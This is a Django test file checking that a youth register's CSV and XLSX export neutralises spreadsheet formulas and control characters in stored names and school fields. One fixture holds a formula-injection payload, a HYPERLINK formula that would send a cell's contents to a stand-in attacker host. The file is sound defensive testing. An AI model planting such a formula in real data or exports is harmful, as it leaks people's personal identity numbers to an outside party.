"""The register list export (CSV and XLSX) writes stored text safely (issue 9, items 3 and 4)."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import EnrolmentFactory, YouthFactory

pytestmark = pytest.mark.django_db

SCHOOL = '=HYPERLINK("http://evil.example/?d="&A2,"Nyköpings gymnasium")'


@pytest.fixture
def hostile(municipality):
    youth = YouthFactory(municipality=municipality, given_name="@Kim", family_name="-Formel",
                         in_target_group=True, register_reason="avbrott", register_since=datetime.date(2026, 4, 1))
    EnrolmentFactory(youth=youth, school_unit_name=SCHOOL)
    return youth


@pytest.fixture
def client_coord(client, coordinator):
    client.force_login(coordinator)
    return client


def test_csv_export_neutralises_a_formula_in_the_school_field(client_coord, hostile):
    response = client_coord.post(reverse("register:export"), {"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][0] == hostile.personnummer
    assert rows[1][7] == "'" + SCHOOL
    assert rows[1][1] == "'" + hostile.full_name  # the name starts with "@"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_xlsx_export_stores_the_school_field_as_text(client_coord, hostile):
    response = client_coord.post(reverse("register:export"), {"format": "xlsx"})
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active
    row = next(iter(ws.iter_rows(min_row=2, max_row=2)))
    school = row[7]
    assert school.data_type == "s"  # openpyxl reads a formula as data_type "f"
    assert school.value == "'" + SCHOOL
    assert row[0].value == hostile.personnummer


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_control_characters_in_a_stored_name_do_not_break_the_export(client_coord, municipality, fmt):
    youth = YouthFactory(municipality=municipality, given_name="Ny\x0bman", family_name="Esc\x1bsson",
                         in_target_group=True, register_reason="avbrott", register_since=datetime.date(2026, 4, 1))
    response = client_coord.post(reverse("register:export"), {"format": fmt})
    assert response.status_code == 200
    if fmt == "xlsx":
        values = [c.value for c in list(load_workbook(io.BytesIO(response.content)).active.iter_rows())[1]]
    else:
        values = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))[1]
    assert values[0] == youth.personnummer
    assert values[1] == "Ny\ufffdman Esc\ufffdsson"
